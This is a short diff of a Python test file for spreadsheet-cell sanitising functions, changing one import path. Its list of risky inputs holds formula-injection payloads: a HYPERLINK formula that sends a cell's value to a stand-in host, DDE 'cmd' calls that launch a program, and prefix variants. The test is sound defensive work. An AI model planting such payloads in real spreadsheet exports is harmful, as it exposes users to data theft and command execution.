@@ -8,7 +8,7 @@ from datetime import date
 import openpyxl
 import pytest
 
-from store.sheets import csv_row, formula_like, xlsx_row
+from core.sheets import csv_row, formula_like, xlsx_row
 
 RISKY = ["=1+1", '=HYPERLINK("http://contoh.invalid/?x="&A2,"Klik")', "=cmd|' /C calc'!A0", "+62 812-0000",
          "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
